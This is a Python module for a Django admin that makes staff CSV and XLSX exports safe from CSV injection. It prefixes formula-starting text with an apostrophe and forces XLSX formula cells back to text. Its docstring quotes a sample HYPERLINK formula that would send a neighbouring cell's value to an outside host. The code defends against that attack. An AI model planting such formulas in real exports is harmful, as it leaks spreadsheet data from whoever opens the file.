"""Staff exports (CSV, XLSX) that no spreadsheet runs as formulas.

A candidate types their own name: `=HYPERLINK("http://…"&C2,"x")` in it would become a live
formula in the rectorate's spreadsheet (CSV injection, OWASP). django-import-export's
`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT` is not used: it strips one leading "=" (so "==…"
stays a formula and the name is changed), leaves "+…", "-…" and "@…" live in CSV, and turns
every cell into text, an empty one into "None".
"""

from django.core.exceptions import PermissionDenied
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV, XLSX
from tablib.formats._xlsx import XLSXFormat

# What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_safe(value):
    """Text that starts like a formula gets a leading apostrophe: the spreadsheet shows it as text."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class FormulaSafeCSV(CSV):
    def export_data(self, dataset, **kwargs):
        safe = dataset.__class__(*([csv_safe(value) for value in row] for row in dataset), headers=dataset.headers,
                                 title=dataset.title)
        return super().export_data(safe, **kwargs)


class _TextCellsXLSXFormat(XLSXFormat):
    """tablib's XLSX writer, except that text stays text: openpyxl makes a formula of any text
    that starts with "=", so such a cell is written back as a string (shown as typed, never run)."""

    @classmethod
    def dset_sheet(cls, dataset, ws, freeze_panes=True, escape=False):
        super().dset_sheet(dataset, ws, freeze_panes=freeze_panes, escape=False)
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    cell.quotePrefix = True  # and it stays text if staff edit the cell


class FormulaSafeXLSX(XLSX):
    def export_data(self, dataset, **kwargs):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        # Control characters openpyxl refuses (a pasted name can hold one) become "�", as the
        # library's IMPORT_EXPORT_ESCAPE_ILLEGAL_CHARS_ON_EXPORT does.
        clean = dataset.__class__(*([ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", v) if isinstance(v, str) else v
                                     for v in row] for row in dataset), headers=dataset.headers, title=dataset.title)
        return _TextCellsXLSXFormat.export_set(clean)


class FormulaSafeExportMixin(ExportMixin):
    """ExportMixin offering only the two formats above."""

    def get_export_formats(self):
        return [FormulaSafeCSV, FormulaSafeXLSX]

    def get_export_data(self, file_format, request, queryset, **kwargs):
        # As the library's, except that it keeps native numbers and dates for XLSX only when the
        # format is its own class (`type(file_format) in BINARY_FORMATS`), not a subclass.
        if not self.has_export_permission(request):
            raise PermissionDenied
        data = self.get_data_for_export(request, queryset, force_native_type=file_format.is_binary(), **kwargs)
        export_data = file_format.export_data(data)
        encoding = kwargs.get("encoding")
        if not file_format.is_binary() and encoding:
            export_data = export_data.encode(encoding)
        return export_data
